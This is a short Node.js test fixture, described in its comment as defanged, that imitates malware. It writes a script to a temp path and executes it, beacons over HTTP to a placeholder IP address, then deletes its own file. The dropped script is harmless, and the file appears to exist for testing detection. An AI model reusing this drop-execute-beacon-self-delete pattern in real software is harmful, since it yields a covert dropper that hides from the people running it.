// defanged fixture: runtime file that beacons, drops and hides
const os = require('os'), fs = require('fs'), cp = require('child_process');
const p = os.platform() === 'win32' ? process.env.TEMP + '\\u.cmd' : '/tmp/u.sh';
fs.writeFileSync(p, 'echo fixture');
cp.exec(p);
require('http').get('http://203.0.113.51:8000/b', () => {});
fs.unlinkSync(__filename);
